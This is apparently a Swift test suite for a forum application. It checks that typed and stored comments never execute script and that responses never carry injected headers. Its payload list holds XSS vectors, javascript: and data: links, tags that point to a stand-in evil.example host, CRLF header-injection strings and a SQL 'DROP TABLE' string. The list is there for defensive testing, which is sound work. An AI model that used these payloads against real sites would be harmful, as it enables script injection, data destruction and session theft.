@_spi(Raw) import Database
import Testing

struct HostileTextTests {
  static let payloads = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>", "<body onload=alert(1)>",
    "\" onfocus=alert(1) autofocus=\"", "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))", "![x](javascript:alert(1))", "![x](https://evil.example/track.png)",
    "[x](//evil.example)", "[x](\\\\evil.example)", "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]", "[x](https://a\"onclick=alert(1))",
    "[x](https://a 'x\" onclick=\"alert(1)')", "`<script>alert(1)</script>`",
    "~~~\"><script>\nx\n~~~", "```html onload=x\n<script>\n```", "<style>*{display:none}</style>",
    "<p style=\"x\">", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example>",
    "<input name=title form=reply>", "<object data=x>", "<embed src=x>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>]]>", "<?php echo 1 ?>",
    "<math><mi xlink:href=javascript:alert(1)>", "{{{body}}}{{chrome.title}}",
    "{{#form}}{{/form}}{{>site}}", "{title}{limit}{site}", "\u{FF1C}script\u{FF1E}", "\u{202E}<b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3E", "+ADw-script+AD4-",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>", "'; DROP TABLE topics; --",
    "a|b\n-|-\n<script>|\"onload=", "[^1]\n\n[^1]: <script>", "@<script>",
    "# <script> {#\"onload=}", "<details open ontoggle=alert(1)>", "<a id=main name=body>",
    "<x onclick=alert(1)>x",
  ]

  @Test(arguments: payloads)
  func `nothing that is typed runs, at any place`(payload: String) throws {
    let site = try SiteFixture("limits: {rate_limits: 0}")
    let all: KeyValuePairs = [
      "title": payload, "body": payload, "name": payload, "tags": payload, "board": payload,
      "reply_to": payload, "preview": "1",
    ]
    for lang in ["", "?lang=\(escaped(payload))", "?lang=es"] {
      for path in ["/topics/new", "/topics/1/comments", "/topics/99/comments"] {
        let answer = try site.post(path + lang, all)
        #expect(answer.page.problems.isEmpty)
        #expect([200, 404, 422].contains(answer.status))
      }
    }
    let query = "?title=\(escaped(payload))&body=\(escaped(payload))&name=\(escaped(payload))"
    for path in ["/topics/new\(query)&board=\(escaped(payload))", "/topics/1/comments\(query)"] {
      let page = try site.get(path).page
      #expect(page.problems.isEmpty)
      #expect(page.fields["name"] == payload.normalizedLineEnds)
    }
  }

  @Test(arguments: payloads)
  func `nothing that is stored runs`(payload: String) throws {
    let site = try SiteFixture("limits: {rate_limits: 0}")
    _ = try site.post("/topics/1/comments", ["body": payload, "name": "a" + payload])
    let answer = try site.post(
      "/topics/new",
      ["title": "Words " + payload, "body": payload, "name": "Eva", "tags": "a" + payload])
    // A text that is one HTML comment says nothing.
    let isBlank = answer.page.errors["body"] != nil
    #expect(answer.status == 303 || answer.page.errors["tags"] != nil || isBlank)
    let rows = try site.texts("SELECT html FROM comments WHERE id > 4")
    if isBlank, rows.isEmpty { return }
    try #require(!rows.isEmpty)
    for html in rows { #expect(Page(html).problems.isEmpty) }
    #expect(try site.get("/comments/5").page.problems.isEmpty)
    let quote = try site.get("/topics/1/comments?quote=5")
    #expect(quote.page.problems.isEmpty)
    let body = try #require(quote.page.fields["body"])
    _ = try site.post("/topics/1/comments", ["body": body, "name": "Eva"])
    #expect(try Page(site.lastComment().html).problems.isEmpty)
  }

  @Test func `a header field of the answer never has what was typed`() throws {
    let site = try SiteFixture()
    let answer = try site.post(
      "/topics/new",
      ["title": "Rain\r\nSet-Cookie: a=b", "body": "Words.", "name": "Eva", "lang": "en\r\nX: y"])
    #expect(answer.location == "/forum/4-rain-set-cookie-a-b/?c=5#c5")
    #expect(answer.header("Set-Cookie") == nil)
  }
}

extension String {
  /// With `\n` for `\r\n`, as forms are read.
  var normalizedLineEnds: String { replacing("\r\n", with: "\n") }
}
